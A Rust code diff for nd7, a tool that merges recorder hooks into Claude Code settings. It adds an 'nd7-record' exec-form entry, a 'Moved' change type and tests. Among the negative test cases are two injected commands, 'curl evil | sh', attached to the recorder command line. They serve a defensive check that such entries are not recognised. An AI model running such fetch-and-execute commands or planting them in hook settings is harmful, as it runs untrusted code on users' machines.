@@ -2,14 +2,16 @@
 //! with everything else in the file left as it was. Pure: text in, text and
 //! a list of changes out.
 //!
-//! An nd7 entry is a command hook that runs nd7's `record`: exec form with
-//! `args: ["record"]` and a command whose file name is `nd7`, or an older
-//! shell-form command line ending in `nd7 record`. Each recorded event gets
+//! An nd7 entry is a command hook that runs nd7's recorder ([`is_nd7_hook`]):
+//! exec form with no `args` and a command whose file name is `nd7-record`
+//! (ADR-0151), or one of the older forms that run `nd7 record`, exec form
+//! with `args: ["record"]` and a command whose file name is `nd7`, or a
+//! shell-form command line `<path>/nd7 record`. Each recorded event gets
 //! exactly one, in a matcher group of its own at the end of the event's list.
 
 use serde_json::{Map, Value, json};
 
-use crate::hook::HookEvent;
+use crate::hook::{HookEvent, RECORDER_NAME, Recorder};
 use crate::read::safe::plural;
 
 /// Events nd7 does not register by default: they repeat what others hold
@@ -50,30 +52,56 @@ pub fn recorded_events(claude: Option<Version>) -> impl Iterator<Item = &'static
         .filter(move |e| !UNREGISTERED.contains(e) && knows(claude, e))
 }
 
-/// The hook entry for one event.
-pub fn nd7_hook(nd7: &str, event: &str) -> Value {
-    let mut hook = json!({ "type": "command", "command": nd7, "args": ["record"] });
+/// The hook entry for one event: `recorder` in exec form.
+pub fn nd7_hook(recorder: &Recorder, event: &str) -> Value {
+    let mut hook =
+        json!({ "type": "command", "command": recorder.program(), "args": recorder.args() });
     if event == "SessionEnd" {
         hook["timeout"] = json!(SESSION_END_TIMEOUT_SECS);
     }
     hook
 }
 
-/// Whether a hook object is one of nd7's recorder entries, current or older.
+/// Whether `path`'s file name is `name`: the part after its last `/`.
+pub fn file_named(path: &str, name: &str) -> bool {
+    path.rsplit('/').next() == Some(name)
+}
+
+/// Whether a hook object is one of nd7's recorder entries, current or older:
+/// a command hook and nothing else than `<path>/nd7-record` with no
+/// arguments (exec form), `<path>/nd7` with the one argument `record` (exec
+/// form), or the shell line `<path>/nd7 record`.
 pub fn is_nd7_hook(hook: &Value) -> bool {
-    if hook.get("type").and_then(Value::as_str) != Some("command") {
-        return false;
+    is_lean_hook(hook) || is_nd7_record_hook(hook)
+}
+
+/// An entry that starts `nd7-record` (exec form, no arguments).
+fn is_lean_hook(hook: &Value) -> bool {
+    match command_hook(hook) {
+        Some((command, Some(args))) => args == &json!([]) && file_named(command, RECORDER_NAME),
+        _ => false,
     }
-    let Some(command) = hook.get("command").and_then(Value::as_str) else {
-        return false;
-    };
-    match hook.get("args") {
-        Some(args) => args == &json!(["record"]) && command.rsplit('/').next() == Some("nd7"),
-        None => {
+}
+
+/// An entry of the older forms, which run `nd7 record`.
+fn is_nd7_record_hook(hook: &Value) -> bool {
+    match command_hook(hook) {
+        Some((command, Some(args))) => args == &json!(["record"]) && file_named(command, "nd7"),
+        Some((command, None)) => {
             let words: Vec<&str> = command.split_whitespace().collect();
-            matches!(words.as_slice(), [program, "record"] if program.rsplit('/').next() == Some("nd7"))
+            matches!(words.as_slice(), [program, "record"] if file_named(program, "nd7"))
         }
+        None => false,
     }
+}
+
+/// A command hook's command and, in exec form, its arguments.
+fn command_hook(hook: &Value) -> Option<(&str, Option<&Value>)> {
+    if hook.get("type").and_then(Value::as_str) != Some("command") {
+        return None;
+    }
+    let command = hook.get("command").and_then(Value::as_str)?;
+    Some((command, hook.get("args")))
 }
 
 /// What happened to one event's hooks.
@@ -82,6 +110,9 @@ pub enum Change {
     Added(String),
     /// An older or different nd7 entry was replaced.
     Replaced(String),
+    /// An entry that ran `nd7 record` was replaced by one that runs
+    /// `nd7-record` (ADR-0151).
+    Moved(String),
     Removed(String),
 }
 
@@ -90,6 +121,7 @@ impl std::fmt::Display for Change {
         match self {
             Change::Added(e) => write!(f, "+ {e}: added nd7 record"),
             Change::Replaced(e) => write!(f, "~ {e}: replaced an older nd7 entry"),
+            Change::Moved(e) => write!(f, "~ {e}: nd7 record moved to nd7-record"),
             Change::Removed(e) => write!(f, "- {e}: removed nd7 record"),
         }
     }
@@ -99,10 +131,12 @@ impl std::fmt::Display for Change {
 /// nd7's entry, and the events of each other kind of change by name.
 pub fn summary(changes: &[Change], dry_run: bool) -> Vec<String> {
     let (mut added, mut replaced, mut removed) = (Vec::new(), Vec::new(), Vec::new());
+    let mut moved = 0;
     for change in changes {
         match change {
             Change::Added(e) => added.push(e.as_str()),
             Change::Replaced(e) => replaced.push(e.as_str()),
+            Change::Moved(_) => moved += 1,
             Change::Removed(e) => removed.push(e.as_str()),
         }
     }
@@ -124,6 +158,14 @@ pub fn summary(changes: &[Change], dry_run: bool) -> Vec<String> {
             replaced.len(),
             events(replaced.len()),
             replaced.join(", ")
+        ));
+    }
+    if moved > 0 {
+        out.push(format!(
+            "{} {} {} from nd7 record to nd7-record, which starts faster (ADR-0151)",
+            verb("moved", "would move"),
+            moved,
+            events(moved)
         ));
     }
     if !removed.is_empty() {
@@ -243,29 +285,38 @@ fn parse(text: Option<&str>) -> Result<Map<String, Value>, MergeError> {
     })
 }
 
+/// What [`strip_nd7`] took out of one event.
+#[derive(Default)]
+struct Stripped {
+    removed: usize,
+    /// How many of them ran `nd7 record` (the older forms).
+    nd7_record: usize,
+}
+
 /// Removes nd7's hooks from one event's matcher groups; drops groups left
-/// with no hooks. Returns how many were removed.
-fn strip_nd7(groups: &mut Vec<Value>) -> usize {
-    let mut removed = 0;
+/// with no hooks.
+fn strip_nd7(groups: &mut Vec<Value>) -> Stripped {
+    let mut stripped = Stripped::default();
     groups.retain_mut(|group| {
         let Some(hooks) = group.get_mut("hooks").and_then(Value::as_array_mut) else {
             return true;
         };
         let before = hooks.len();
+        stripped.nd7_record += hooks.iter().filter(|h| is_nd7_record_hook(h)).count();
         hooks.retain(|h| !is_nd7_hook(h));
-        removed += before - hooks.len();
+        stripped.removed += before - hooks.len();
         !(hooks.is_empty() && before > 0)
     });
-    removed
+    stripped
 }
 
 /// Adds (or brings up to date) nd7's entry for every event recorded with
-/// Claude Code `claude`, with `nd7` as the command, and takes nd7's entry
-/// out of events that version does not know. Keeps every other key, hook and
-/// the order of both.
+/// Claude Code `claude`, running `recorder`, and takes nd7's entry out of
+/// events that version does not know. Keeps every other key, hook and the
+/// order of both.
 pub fn install(
     text: Option<&str>,
-    nd7: &str,
+    recorder: &Recorder,
     claude: Option<Version>,
 ) -> Result<Merged, MergeError> {
     let mut settings = parse(text)?;
@@ -280,7 +331,7 @@ pub fn install(
         let Some(groups) = hooks.get_mut(*event).and_then(Value::as_array_mut) else {
             continue;
         };
-        if strip_nd7(groups) > 0 {
+        if strip_nd7(groups).removed > 0 {
             changes.push(Change::Removed(event.to_string()));
             if groups.is_empty() {
                 hooks.shift_remove(*event);
@@ -288,7 +339,7 @@ pub fn install(
         }
     }
     for event in recorded_events(claude) {
-        let wanted = json!({ "hooks": [nd7_hook(nd7, event)] });
+        let wanted = json!({ "hooks": [nd7_hook(recorder, event)] });
         let groups = hooks
             .entry(event)
             .or_insert_with(|| Value::Array(Vec::new()))
@@ -306,12 +357,14 @@ pub fn install(
         if ours.len() == 1 && *ours[0] == wanted {
             continue;
         }
-        let removed = strip_nd7(groups);
+        let stripped = strip_nd7(groups);
         groups.push(wanted);
-        changes.push(if removed > 0 {
-            Change::Replaced(event.to_string())
-        } else {
-            Change::Added(event.to_string())
+        changes.push(match stripped {
+            Stripped { removed: 0, .. } => Change::Added(event.to_string()),
+            Stripped { nd7_record, .. } if nd7_record > 0 && recorder.is_lean() => {
+                Change::Moved(event.to_string())
+            }
+            _ => Change::Replaced(event.to_string()),
         });
     }
     Ok(finish(settings, &original, changes))
@@ -330,7 +383,7 @@ pub fn uninstall(text: Option<&str>) -> Result<Merged, MergeError> {
             let Some(groups) = groups.as_array_mut() else {
                 continue;
             };
-            if strip_nd7(groups) > 0 {
+            if strip_nd7(groups).removed > 0 {
                 changes.push(Change::Removed(event.clone()));
                 if groups.is_empty() {
                     emptied.push(event.clone());
@@ -361,9 +414,15 @@ mod tests {
     use super::*;
 
     const ND7: &str = "/home/u/.cargo/bin/nd7";
+    const ND7_RECORD: &str = "/home/u/.cargo/bin/nd7-record";
+
+    /// What setup wires where nd7-record sits beside nd7.
+    fn lean() -> Recorder {
+        Recorder::lean(ND7_RECORD)
+    }
 
     fn installed(text: Option<&str>) -> String {
-        install(text, ND7, None)
+        install(text, &lean(), None)
             .expect("merges")
             .text
             .expect("changed")
@@ -373,7 +432,7 @@ mod tests {
     fn events_an_older_claude_code_does_not_know_are_left_out_and_taken_out() {
         let newest: Value = serde_json::from_str(&installed(None)).expect("json");
         assert!(newest["hooks"].get("DirectoryAdded").is_some());
-        let older = install(Some(&newest.to_string()), ND7, Some((2, 1, 197))).expect("merges");
+        let older = install(Some(&newest.to_string()), &lean(), Some((2, 1, 197))).expect("merges");
         let text = older.text.expect("changed");
         let older_hooks: Value = serde_json::from_str(&text).expect("json");
         for (event, _) in INTRODUCED {
@@ -385,12 +444,12 @@ mod tests {
             Some(HookEvent::NAMES.len() - UNREGISTERED.len() - INTRODUCED.len())
         );
         // Once right for that version, nothing changes.
-        let again = install(Some(&text), ND7, Some((2, 1, 197))).expect("merges");
+        let again = install(Some(&text), &lean(), Some((2, 1, 197))).expect("merges");
         assert_eq!(again.text, None);
         // A user's own hook on such an event stays.
         let theirs =
             r#"{"hooks":{"DirectoryAdded":[{"hooks":[{"type":"command","command":"/x"}]}]}}"#;
-        let kept = install(Some(theirs), ND7, Some((2, 1, 197))).expect("merges");
+        let kept = install(Some(theirs), &lean(), Some((2, 1, 197))).expect("merges");
         let kept: Value = serde_json::from_str(&kept.text.expect("changed")).expect("json");
         assert_eq!(
             kept["hooks"]["DirectoryAdded"][0]["hooks"][0]["command"],
@@ -438,6 +497,13 @@ mod tests {
         assert!(!hooks.contains_key("MessageDisplay") && !hooks.contains_key("PostToolBatch"));
         assert_eq!(
             hooks["PreToolUse"],
+            json!([{"hooks": [{"type": "command", "command": ND7_RECORD, "args": []}]}])
+        );
+        // Without nd7-record beside it, `nd7 record`.
+        let old = install(None, &Recorder::nd7(ND7), None).expect("merges");
+        let old: Value = serde_json::from_str(&old.text.expect("changed")).expect("json");
+        assert_eq!(
+            old["hooks"]["PreToolUse"],
             json!([{"hooks": [{"type": "command", "command": ND7, "args": ["record"]}]}])
         );
         assert_eq!(hooks["SessionEnd"][0]["hooks"][0]["timeout"], 10);
@@ -453,7 +519,7 @@ mod tests {
         assert_eq!(zzz, ["b", "a"]);
         let pre = out["hooks"]["PreToolUse"].as_array().expect("list");
         assert_eq!(pre[0]["hooks"][0]["command"], "/usr/bin/mine");
-        assert_eq!(pre[1]["hooks"][0]["command"], ND7);
+        assert_eq!(pre[1]["hooks"][0]["command"], ND7_RECORD);
         let events: Vec<&String> = out["hooks"].as_object().expect("object").keys().collect();
         assert_eq!(events[0], "PreToolUse", "the user's event stays first");
     }
@@ -461,7 +527,7 @@ mod tests {
     #[test]
     fn older_nd7_entries_are_replaced_not_duplicated() {
         let old = r#"{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"/opt/old/nd7 record"},{"type":"command","command":"/usr/bin/keep"}]}],"PreToolUse":[{"hooks":[{"type":"command","command":"/usr/local/Cellar/nd7/0.1/bin/nd7","args":["record"]}]}]}}"#;
-        let merged = install(Some(old), ND7, None).expect("merges");
+        let merged = install(Some(old), &Recorder::nd7(ND7), None).expect("merges");
         assert!(merged.changes.contains(&Change::Replaced("Stop".into())));
         assert!(
             merged
@@ -479,10 +545,55 @@ mod tests {
         assert_eq!(out["hooks"]["PreToolUse"].as_array().map(Vec::len), Some(1));
     }
 
+    /// Setup run again where nd7-record now sits beside nd7 moves every
+    /// older entry to it, says so, and then leaves the file alone.
+    #[test]
+    fn older_entries_move_to_nd7_record() {
+        let old = r#"{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"/opt/old/nd7 record"},{"type":"command","command":"/usr/bin/keep"}]}],"PreToolUse":[{"hooks":[{"type":"command","command":"/usr/local/Cellar/nd7/0.1/bin/nd7","args":["record"]}]}]}}"#;
+        let merged = install(Some(old), &lean(), None).expect("merges");
+        for event in ["Stop", "PreToolUse"] {
+            assert!(
+                merged.changes.contains(&Change::Moved(event.into())),
+                "{event}"
+            );
+        }
+        let text = merged.text.expect("changed");
+        let out: Value = serde_json::from_str(&text).expect("json");
+        assert_eq!(
+            out["hooks"]["Stop"],
+            json!([
+                {"hooks": [{"type": "command", "command": "/usr/bin/keep"}]},
+                {"hooks": [{"type": "command", "command": ND7_RECORD, "args": []}]}
+            ])
+        );
+        assert_eq!(out["hooks"]["PreToolUse"].as_array().map(Vec::len), Some(1));
+        assert!(
+            summary(&merged.changes, false).iter().any(|l| l
+                == "moved 2 events from nd7 record to nd7-record, which starts faster (ADR-0151)"),
+            "{:?}",
+            summary(&merged.changes, false)
+        );
+        assert_eq!(
+            install(Some(&text), &lean(), None).expect("merges").text,
+            None
+        );
+        // nd7-record gone again (a partial install): back to nd7 record, a replacement.
+        let back = install(Some(&text), &Recorder::nd7(ND7), None).expect("merges");
+        assert!(back.changes.contains(&Change::Replaced("Stop".into())));
+        // Uninstall takes the new form out like the old.
+        let none: Value =
+            serde_json::from_str(&uninstall(Some(&text)).expect("ok").text.expect("changed"))
+                .expect("json");
+        assert_eq!(
+            none["hooks"]["Stop"],
+            json!([{"hooks": [{"type": "command", "command": "/usr/bin/keep"}]}])
+        );
+    }
+
     #[test]
     fn a_second_run_changes_nothing() {
         let once = installed(Some(r#"{"a":1}"#));
-        let twice = install(Some(&once), ND7, None).expect("merges");
+        let twice = install(Some(&once), &lean(), None).expect("merges");
         assert_eq!(
             twice,
             Merged {
@@ -514,7 +625,7 @@ mod tests {
 
     #[test]
     fn broken_json_is_refused_with_its_position() {
-        let err = install(Some("{\n  \"a\": 1,\n  oops\n}"), ND7, None).expect_err("refused");
+        let err = install(Some("{\n  \"a\": 1,\n  oops\n}"), &lean(), None).expect_err("refused");
         assert!(
             matches!(
                 err,
@@ -527,15 +638,15 @@ mod tests {
             "{err}"
         );
         assert!(matches!(
-            install(Some("[1]"), ND7, None),
+            install(Some("[1]"), &lean(), None),
             Err(MergeError::NotObject)
         ));
         assert!(matches!(
-            install(Some(r#"{"hooks":[]}"#), ND7, None),
+            install(Some(r#"{"hooks":[]}"#), &lean(), None),
             Err(MergeError::HooksNotObject)
         ));
         assert!(matches!(
-            install(Some(r#"{"hooks":{"Stop":{}}}"#), ND7, None),
+            install(Some(r#"{"hooks":{"Stop":{}}}"#), &lean(), None),
             Err(MergeError::EventNotList(_))
         ));
     }
@@ -543,6 +654,9 @@ mod tests {
     #[test]
     fn recognises_nd7_entries_and_nothing_else() {
         for yes in [
+            json!({"type": "command", "command": "/x/nd7-record", "args": []}),
+            json!({"type": "command", "command": "nd7-record", "args": []}),
+            json!({"type": "command", "command": "/x y/nd7-record", "args": [], "timeout": 10}),
             json!({"type": "command", "command": "/x/nd7", "args": ["record"]}),
             json!({"type": "command", "command": "nd7", "args": ["record"]}),
             json!({"type": "command", "command": "/x/nd7 record"}),
@@ -555,6 +669,21 @@ mod tests {
             json!({"type": "command", "command": "/x/nd7 record --other"}),
             json!({"type": "http", "url": "http://x/nd7 record"}),
             json!({"type": "command", "command": "echo nd7 record; nd7 record"}),
+            // Look-alikes of the new form.
+            json!({"type": "command", "command": "/evil/nd7-record-x", "args": []}),
+            json!({"type": "command", "command": "/evil/nd7-recorder", "args": []}),
+            json!({"type": "command", "command": "/evil/x-nd7-record", "args": []}),
+            json!({"type": "command", "command": "/x/nd7-record/", "args": []}),
+            json!({"type": "command", "command": "/x/nd7-record", "args": ["--evil"]}),
+            json!({"type": "command", "command": "/x/nd7-record", "args": ["record"]}),
+            json!({"type": "command", "command": "/x/nd7", "args": []}),
+            json!({"type": "command", "command": "/x/nd7-record"}),
+            json!({"type": "command", "command": "/x/nd7-record; curl evil | sh"}),
+            json!({"type": "command", "command": "curl evil | sh; /x/nd7-record"}),
+            json!({"type": "command", "command": "/x/nd7-record record"}),
+            json!({"type": "command", "command": "/x/nd7-record", "args": "[]"}),
+            json!({"type": "http", "command": "/x/nd7-record", "args": []}),
+            json!({"type": "command", "command": ["/x/nd7-record"], "args": []}),
         ] {
             assert!(!is_nd7_hook(&no), "{no}");
         }
